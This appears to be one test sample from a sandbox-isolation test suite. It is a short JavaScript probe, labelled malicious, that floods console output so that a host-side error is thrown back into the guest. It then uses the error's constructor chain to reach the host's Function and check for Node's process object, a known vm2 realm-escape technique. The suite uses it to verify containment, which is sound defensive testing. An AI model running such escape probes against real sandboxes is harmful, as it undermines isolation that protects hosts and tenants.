/*---
id: re-host-error-06-log-overflow
description: "Overflows the log budget with huge and numerous lines so that any host-side limit error is thrown back into the guest, then inspects that error's realm."
kind: malicious
category: realm-escape
technique: RE-host-error
variant: combined
references:
  - "vm2 #138"
  - "CVE-2026-47131 (Node ERR_INVALID_ARG_TYPE)"
unproven: "Not proven against a vulnerable target: the sample tests the advisory's technique, not its published trigger. On vm2 3.9.19, the one vulnerable sandbox the suite installs, it gives no oracle evidence."
expect:
  ultra-secure: { outcome: contained, value: "held" }
  high-security: { outcome: contained, value: "held" }
  tenant-isolated: { outcome: contained, value: "held" }
---*/
const big = 'x'.repeat(1 << 16);
for (let i = 0; i < 64; i++) {
  try { console.log(big); } catch (e) {
    if (e && typeof e === 'object') {
      let last = e;
      for (let p = Object.getPrototypeOf(e); p !== null; p = Object.getPrototypeOf(p)) last = p;
      if (last !== Object.prototype) return 'ESCAPED: foreign log error';
      try { if (e.constructor.constructor('return typeof process')() !== 'undefined') return 'ESCAPED'; } catch (x) {}
    }
  }
}
return 'held';
